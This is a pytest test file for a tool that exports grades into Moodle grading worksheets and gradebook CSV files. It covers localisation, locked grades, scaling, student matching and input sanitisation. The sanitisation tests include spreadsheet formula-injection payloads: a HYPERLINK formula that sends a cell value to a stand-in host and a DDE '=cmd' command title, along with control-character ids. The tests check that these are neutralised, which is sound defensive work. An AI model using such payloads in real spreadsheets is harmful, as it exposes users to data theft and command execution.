"""Moodle's worksheet: its own importer, rebuilt from its rules, gives everybody exactly the grade that was meant."""

import pytest

from checker.lms.gradebooks import ExportError
from checker.lms.systems import export
from checker.lms.systems.moodle import NO_CELL
from checker.text.words import shortened
from tests.lms.importers import tables
from tests.lms.importers.moodle_gradebook import Gradebook, RefusedBatchError
from tests.lms.importers.moodle_gradebook import imported as imported_grades
from tests.lms.importers.moodle_worksheet import Assignment, imported
from tests.lms.people import grade, only_file, request, said

ENGLISH = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum grade", "Grade can be changed",
           "Last modified (submission)", "Last modified (grade)", "Feedback comments"]  # fmt: skip
GERMAN = ["ID", "Vollständiger Name", "E-Mail-Adresse", "Status", "Bewertung", "Bestwertung", "Bewertung kann geändert werden",
          "Zuletzt geändert (Abgabe)", "Zuletzt geändert (Bewertung)", "Feedback als Kommentar"]  # fmt: skip
GERMAN_WORDS = ("ID", "Bewertung", "Zuletzt geändert (Bewertung)", "Teilnehmer/in")
TIME = "Monday, 5 October 2026, 12:00 PM"


def row(number, name="Ana Lee", old="", *, most="10.00", can="Yes", comment="", word="Participant "):  # noqa: PLR0913 - the columns of a row
    return [f"{word}{number}", name, f"u{number}@uni.edu", "Submitted for grading", old, most, can, TIME, "-", comment]


def worksheet(*rows, header=ENGLISH, **form):
    return tables.written([header, *rows], line_end=form.pop("line_end", "\n"), **form)


def filled(into, *grades, **more):
    return export("moodle-worksheet", request(*grades, into=into, into_name="Grades-HW.csv", **more))


def test_grades_go_to_their_students_and_nothing_else_changes():
    before = [row(1042), row(1043, "Kim, Bo", "4.00", comment="<p>well done</p>")]
    exported = filled(worksheet(*before), grade("1042", 8.25, comment="late"), grade("1043", 4.0))
    assert exported.files == {"Grades-HW.csv": worksheet(row(1042, old="8.25"), before[1])}
    assignment = Assignment({1042, 1043}, grades={1043: 4.0}, comments={1043: "<p>well done</p>"})
    assert imported(only_file(exported), assignment) == ({1042: 8.25}, {})
    assert (exported.changed, exported.notes) == (1, ())
    assert exported.steps[1] == "2. Choose the action Upload grading worksheet, and then this file."


def test_a_worksheet_without_names_is_that_of_blind_marking():
    header = ["Identifier", *ENGLISH[3:]]
    rows = [[each[0], *each[3:]] for each in (row(1), row(2))]
    exported = filled(worksheet(*rows, header=header), grade("1", 8.0))
    assert imported(only_file(exported), Assignment({1, 2})) == ({1: 8.0}, {})
    assert exported.notes == ("In this file, but not in the results; the row is as it was: 2.",)


def test_a_worksheet_in_german_keeps_its_headings_and_its_decimal_commas():
    form = {"most": "10,00", "word": "Teilnehmer/in"}
    before = [row(7, can="Ja", **form), row(8, can="Nein", **form), row(9, old="2,50", can="Ja", **form)]
    exported = filled(
        worksheet(*before, header=GERMAN, encoding="utf-8-sig"), grade("7", 8.25), grade("8", 1.0), grade("9", 2.5)
    )
    after = [row(7, old="8,25", can="Ja", **form), *before[1:]]
    assert only_file(exported) == worksheet(*after, header=GERMAN, encoding="utf-8-sig")
    assignment = Assignment({7, 8, 9}, grades={9: 2.5}, locked=frozenset([8]), decimal=",", words=GERMAN_WORDS)
    assert imported(only_file(exported), assignment) == ({7: 8.25}, {})
    assert exported.notes == ("Left as it was, because Moodle does not allow changing the grade: 8.",)


@pytest.mark.parametrize(("points", "more", "note"), [
    (11.0, {}, "Left as it was, because the points are more than the column's maximum of 10: 1."),
    (None, {}, "Left as it was, because an answer is still to review: 1."),
    (None, {"handed_in": False}, "Left as it was, because nothing was handed in: 1."),
])  # fmt: skip
def test_a_grade_that_moodle_would_skip_is_left_and_reported(points, more, note):
    before = worksheet(row(1, old="2.00"))
    exported = filled(before, grade("1", points, comment="hello", **more))
    assert (only_file(exported), exported.changed, exported.notes) == (before, 0, (note,))


def test_points_are_scaled_to_the_maximum_of_each_row():
    exported = filled(
        worksheet(row(1, most="20.00"), row(2, most="5.00")), grade("1", 5.0), grade("2", 5.0), scale=True
    )
    assert only_file(exported) == worksheet(row(1, old="10", most="20.00"), row(2, old="2.5", most="5.00"))
    assert said(exported, "Points are scaled from 10 to the column's maximum of 5 or 20")


def test_students_are_found_by_number_or_email_and_not_by_name():
    exported = filled(
        worksheet(row(1), row(2)),
        grade("s1", 1.0, name="Ana Lee", other_ids=("1",)),
        grade("s2", 2.0, email="U2@uni.edu"),
        grade("s3", 3.0, name="Ana Lee"),
    )
    assert only_file(exported) == worksheet(row(1, old="1"), row(2, old="2"))
    assert exported.notes == ("In the results, but not in this file: Ana Lee (s3).",)


def test_grades_by_name_of_the_column_and_without_the_lock_column():
    header = ["Identifiant", "Nom", "Courriel", "Statut", "Punkte", "Max", "Dernière (note)"]
    rows = [["Participant 1", "A", "a@x", "ok", "", "10.00", "-"]]
    with pytest.raises(
        ExportError,
        match="which column holds the grades\\? Name it with --column; the columns are `Identifiant`, `Nom`",
    ):
        filled(worksheet(*rows, header=header), grade("1", 3.0))
    exported = filled(worksheet(*rows, header=header), grade("1", 3.0), column="Punkte")
    assert only_file(exported) == worksheet(["Participant 1", "A", "a@x", "ok", "3", "10.00", "-"], header=header)
    assert said(exported, "No column with yes or no says which grades can be changed")
    with pytest.raises(ExportError, match="the column `Nom` says who the student is"):
        filled(worksheet(*rows, header=header), grade("1", 3.0), column="Nom")


@pytest.mark.parametrize(("into", "message"), [
    (worksheet(row(1, most="Bad,Good")), "graded with a scale; set its grade type to Point in Moodle"),
    (b"Student,ID,Section,A (1)\n", "Grades-HW.csv is not a Moodle grading worksheet, which begins with the column Identifier"),
])  # fmt: skip
def test_another_file_is_an_error(into, message):
    with pytest.raises(ExportError, match=message):
        filled(into, grade("1", 3.0))


def exported(*grades, **more):
    return export("moodle-gradebook", request(*grades, **more))


def test_only_students_with_a_grade_get_a_row():
    found = exported(
        grade("s1", 8.5, email="a@uni.edu"),
        grade("s2", None, email="b@uni.edu"),
        grade("s3", None, handed_in=False, email="c@x"),
    )
    assert found.files == {"moodle-gradebook.csv": b"Email address,Homework 1\r\na@uni.edu,8.5\r\n"}
    assert imported_grades(only_file(found), Gradebook({"a@uni.edu": 1, "b@uni.edu": 2}, {2: 4.0})) == {1: 8.5, 2: 4.0}
    assert found.notes == (
        "Left out, because an answer is still to review: s2.",
        "Left out, because nothing was handed in: s3.",
    )
    assert found.changed == 1
    assert found.steps[2] == "3. Under Identify user by, map from Email address to Email address."


def test_grades_above_the_maximum_are_left_out_because_they_would_undo_everything():
    found = exported(grade("a", 101.0, max_points=200), grade("b", 100.0, max_points=200), grade("c", -1.0))
    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["b", "100"]]
    assert found.notes == ("Left out, because Moodle refuses all grades if one is not from 0 to 100: a; c.",)
    with pytest.raises(RefusedBatchError, match="gradevaluetoobig"):
        imported_grades(b"ID number,x\na,101\n", Gradebook({"a": 1}))


def test_scaling_is_to_100():
    found = exported(grade("a", 150.0, max_points=200), scale=True)
    assert tables.read(only_file(found).decode())[1] == ["a", "75"]
    assert found.notes == ("Points are scaled to 100, the maximum of a new grade item in Moodle.",)
    with pytest.raises(ExportError, match="no maximum to scale from"):
        exported(grade("a", 1.0, max_points=0), scale=True)


def test_without_all_email_addresses_the_ids_are_used():
    found = exported(grade("a", 1.0, email="a@x"), grade("b", 2.0))
    assert only_file(found) == b"ID number,Homework 1\r\na,1\r\nb,2\r\n"
    assert found.steps[2:4] == (
        "3. Under Identify user by, map from ID number to ID number or Username, whichever your ids are.",
        "4. Under Grade item mappings, map Homework 1 to your grade item, and not to a new one.",
    )


@pytest.mark.parametrize("id_", [" ", "0"])
def test_an_id_that_moodle_takes_for_blank_is_left_out_because_its_grade_would_go_to_the_row_before(id_):
    found = exported(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
    assert imported_grades(only_file(found), Gradebook({"a": 1, "c": 3})) == {1: 1.0, 3: 3.0}
    assert found.notes == (f"Left out, because Moodle takes this id for a blank one: `{id_}`.",)
    assert imported_grades(b"ID number,x\na,1\n0,2\n", Gradebook({"a": 1})) == {1: 2.0}


@pytest.mark.parametrize(
    "id_", ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@x", "＝1", "\u202es1", "a\x1b[2Jb"]
)
def test_an_id_that_is_no_plain_cell_is_left_out_because_another_one_would_undo_the_import(id_):
    found = exported(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["a", "1"], ["c", "3"]]
    assert found.notes == (f"{NO_CELL}: {shortened(id_)}.",)
    assert found.changed == 2


def test_no_two_students_have_one_id():
    found = exported(grade("a", 1.0, email="x@uni.edu"), grade("b", 2.0, email="X@uni.edu"))
    assert imported_grades(only_file(found), Gradebook({"a": 1, "b": 2})) == {1: 1.0, 2: 2.0}
    with pytest.raises(ExportError, match="two ids in the results differ by space only"):
        exported(grade("a", 1.0), grade(" a", 2.0))


def test_the_title_is_no_formula():
    found = exported(grade("a", 1.0), title="=cmd|' /C calc'!A0")
    assert only_file(found) == b"ID number,'=cmd|' /C calc'!A0\r\na,1\r\n"
    assert "map '=cmd|' /C calc'!A0 to your grade item" in found.steps[3]
